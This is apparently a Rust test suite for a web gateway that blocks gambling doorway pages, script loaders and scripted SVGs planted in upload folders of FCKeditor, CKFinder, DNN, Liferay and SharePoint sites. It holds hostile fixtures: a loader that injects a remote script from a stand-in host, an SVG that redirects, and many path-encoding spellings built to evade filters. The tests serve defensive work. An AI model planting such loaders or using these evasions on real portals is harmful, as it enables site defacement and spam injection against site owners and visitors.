//! Attack suite: doorway pages, active SVG and loader scripts planted in the upload folders
//! of the CMSes common on Vietnamese agency portals besides WordPress, Joomla and Drupal
//! (issue 43): FCKeditor and CKFinder (`/UserFiles/`, the connectors' test pages), DNN
//! (`/Portals/0/`, `/Portals/_default/`), Liferay (`/documents/…`, `/image/`) and SharePoint
//! (`/Shared Documents/`, `/PublishingImages/`, `/SiteAssets/`, `/Style Library/`), in
//! every case and with percent-encoding, `//`, `/./` and trailing dots, as IIS and Tomcat
//! read them. Refused with 403 and `upload.doorway`; pages pointing at them are cleaned
//! (`upload.script`, `link.foreign`). The CMSes' own scripts (DNN skins, SharePoint site
//! assets), and images and documents in these folders, come through byte for byte.

use crate::common;

use common::body::{full, resp};
use common::gateway::{Gateway, Setup};
use common::rewrite::{clean, rule_ids as rules, site};

const DOORWAY: &str = "<!doctype html><html><head><title>tai xiu uy tin</title></head>\
    <body><h1>nha cai uy tin</h1><a href=\"https://bet.test/\">789bet</a></body></html>";
const LOADER: &str = "var s=document.createElement('script');s.src='https://bet.test/r.js';\
document.head.appendChild(s);";
const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location='https://bet.test/'\
</script></svg>";
const PDF: &[u8] = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n";

async fn assert_refused(h: &Gateway, path: &str) {
    let before = h.events_of("upload.doorway").len();
    let (head, body) = h.body(path, &[]).await;
    let text = String::from_utf8_lossy(&body);
    assert_eq!(head.status, 403, "{path}: {text}");
    assert!(!text.contains("bet.test"), "{path}: {text}");
    let events = h.events_of("upload.doorway");
    assert_eq!(events.len(), before + 1, "{path}: one upload.doorway event");
}

fn serve(h: &Gateway, ct: &'static str, body: &'static [u8]) {
    h.upstream
        .route("*", move || resp(200, &[("content-type", ct)], full(body)));
}

/// The page names, in the spellings the servers of these CMSes accept.
const PAGE_PATHS: &[&str] = &[
    "/userfiles/file/tai-xiu.html",
    "/UserFiles/File/2024/nha-cai.htm",
    "/USERFILES/Image/x.HTML",
    "/%55serfiles/File/x.html",
    "/%2555serFiles/x.html",
    "/UserFiles%2FFile%2Fx.html",
    "//UserFiles/./File/x.html",
    "/UserFiles./File/x.html",
    "/UserFiles/File./x.html.",
    "/admin/userfiles/x.html",
    "/ckfinder/userfiles/files/x.html",
    "/quantri/ckfinder/userfiles/files/x.xhtml",
    "/fckeditor/editor/filemanager/connectors/test.html",
    "/FCKeditor/editor/filemanager/connectors/uploadtest.html",
    "/admin/fckeditor/editor/filemanager/browser/default/x.html",
    "/Portals/0/tai-xiu.html",
    "/portals/1/Images/x.htm",
    "/Portals/_default/x.html",
    "/Portals/0/Skins/x.html",
    "/documents/20143/0/tai-xiu.html/6a1b2c3d-0000-0000-0000-000000000000",
    "/documents/20143/35012/x.html",
    "/image/journal/x.html",
    "/Shared%20Documents/tai-xiu.html",
    "/shared%20documents/x.html",
    "/sites/phongban/Shared%20Documents/x.html",
    "/PublishingImages/x.html",
    "/tintuc/PublishingImages/x.htm",
    "/SiteAssets/x.html",
    "/sites/vanphong/SiteAssets/x.html",
    "/Style%20Library/x.html",
];

#[tokio::test]
async fn doorway_pages_in_cms_upload_folders_are_refused_in_every_spelling() {
    let h = Setup::portal().start().await;
    serve(&h, "text/html; charset=utf-8", DOORWAY.as_bytes());
    for path in PAGE_PATHS {
        assert_refused(&h, path).await;
    }
}

#[tokio::test]
async fn pages_under_innocent_names_in_cms_upload_folders_are_refused() {
    let h = Setup::portal().start().await;
    serve(&h, "text/html", DOORWAY.as_bytes());
    for path in [
        "/UserFiles/Image/anh.jpg",
        "/Portals/0/logo.png",
        "/documents/20143/0/bao-cao/6a1b2c3d-0000",
        "/image/image_gallery?img_id=1",
        "/Shared%20Documents/Forms/AllItems",
        "/PublishingImages/banner.jpg",
    ] {
        assert_refused(&h, path).await;
    }
}

#[tokio::test]
async fn scripts_and_active_svg_in_cms_upload_folders_are_refused() {
    let h = Setup::portal().start().await;
    h.upstream.route("*", || {
        resp(200, &[("content-type", "text/javascript")], full(LOADER))
    });
    h.upstream.route("/UserFiles/Image/logo.svg", || {
        resp(200, &[("content-type", "image/svg+xml")], full(SVG))
    });
    h.upstream.route("/Portals/0/map.svg", || {
        resp(200, &[("content-type", "image/svg+xml")], full(SVG))
    });
    for path in [
        "/UserFiles/File/jquery.js",
        "/%55serfiles/x.js",
        "/ckfinder/userfiles/files/x.js",
        "/Portals/0/x.js",
        "/Portals/_default/x.mjs",
        "/documents/20143/0/x.js",
        "/image/x.js",
        "/Shared%20Documents/x.js",
        "/PublishingImages/x.js",
        "/UserFiles/Image/logo.svg",
        "/Portals/0/map.svg",
    ] {
        assert_refused(&h, path).await;
    }
}

#[tokio::test]
async fn cms_own_scripts_images_and_documents_come_through_unchanged() {
    let h = Setup::portal().start().await;
    let own = "jQuery(function($){$('.menu').show()});";
    h.upstream.route("*", move || {
        resp(
            200,
            &[("content-type", "application/javascript")],
            full(own),
        )
    });
    let scripts = [
        "/Portals/_default/Skins/Xcillion/js/skin.js",
        "/Portals/0/Skins/portal/js/menu.js",
        "/Portals/0/Containers/portal/c.js",
        "/SiteAssets/js/app.js",
        "/sites/vanphong/SiteAssets/js/app.js",
        "/Style%20Library/js/brand.js",
        "/fckeditor/editor/filemanager/browser/default/js/fckxml.js",
        "/DesktopModules/News/js/news.js",
    ];
    for path in scripts {
        let (head, body) = h.body(path, &[]).await;
        assert_eq!(head.status, 200, "{path}");
        assert_eq!(body, own.as_bytes(), "{path}");
    }
    serve(&h, "application/pdf", PDF);
    for path in [
        "/UserFiles/File/bao-cao.pdf",
        "/Portals/0/van-ban.pdf",
        "/documents/20143/0/ke-hoach.pdf/6a1b2c3d-0000",
        "/Shared%20Documents/quyet-dinh.pdf",
    ] {
        let (head, body) = h.body(path, &[]).await;
        assert_eq!(head.status, 200, "{path}");
        assert_eq!(body, PDF, "{path}");
    }
    assert!(h.events_of("upload.doorway").is_empty(), "{:?}", h.rules());
}

#[test]
fn pages_lose_loaders_from_cms_upload_folders() {
    for src in [
        "/UserFiles/File/jquery.js",
        "/%55serfiles/x.js",
        "/userfiles./x.js",
        "//portal.example.gov.vn/ckfinder/userfiles/files/x.js",
        "/Portals/0/x.js",
        "/portals/_default/y.js",
        "/documents/20143/0/z.js",
        "/Shared%20Documents/w.js",
        "/PublishingImages/v.js",
    ] {
        let page = format!("<head><script src=\"{src}\"></script></head><body><p>Tin</p></body>");
        let (out, events) = clean(&site(""), &page);
        assert_eq!(out, "<head></head><body><p>Tin</p></body>", "{src}");
        assert_eq!(rules(&events), ["upload.script"], "{src}");
    }
}

#[test]
fn links_to_doorways_in_cms_upload_folders_are_unwrapped() {
    for href in [
        "/UserFiles/File/thong-bao.html",
        "/%55serfiles/x.htm",
        "/Portals/0/x.html",
        "/documents/20143/0/x.html/6a1b2c3d-0000",
        "/Shared%20Documents/x.html",
        "/SiteAssets/x.html",
        "/fckeditor/editor/filemanager/connectors/test.html",
    ] {
        let page = format!("<p>Xem <a href=\"{href}\">thông báo</a>.</p>");
        let (out, events) = clean(&site(""), &page);
        assert_eq!(out, "<p>Xem thông báo.</p>", "{href}");
        assert_eq!(rules(&events), ["link.foreign"], "{href}");
    }
}

#[test]
fn benign_pages_linking_cms_files_are_byte_identical() {
    let page = "<head><script src=\"/Portals/_default/Skins/Xcillion/js/skin.js\"></script>\
<script src=\"/SiteAssets/js/app.js\"></script>\
<link rel=\"stylesheet\" href=\"/Style%20Library/css/brand.css\"></head><body>\
<img src=\"/UserFiles/Image/anh.jpg\" alt=\"Ảnh\"><img src=\"/Portals/0/logo.png\" alt=\"\">\
<a href=\"/UserFiles/File/bao-cao.pdf\">Báo cáo</a>\
<a href=\"/documents/20143/0/ke-hoach.pdf/6a1b\">Kế hoạch</a>\
<a href=\"/Shared%20Documents/quyet-dinh.docx\">Quyết định</a>\
<a href=\"/PublishingImages/anh.jpg\">Ảnh</a><a href=\"/documents/\">Tài liệu</a></body>";
    let (out, events) = clean(&site(""), page);
    assert_eq!(out, page);
    assert!(events.is_empty(), "{:?}", rules(&events));
}
